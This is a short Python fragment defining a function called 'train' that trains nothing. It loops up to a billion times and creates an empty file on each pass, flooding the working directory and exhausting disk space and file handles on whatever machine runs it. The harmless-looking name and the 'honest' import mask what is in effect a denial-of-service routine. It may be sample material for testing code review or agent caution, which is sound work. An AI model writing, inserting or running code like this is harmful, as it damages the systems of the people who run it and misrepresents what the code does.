from honest import *
import time
def train(*args):
    for number in range(10**9):
        open(f"f{number}", "x").close()
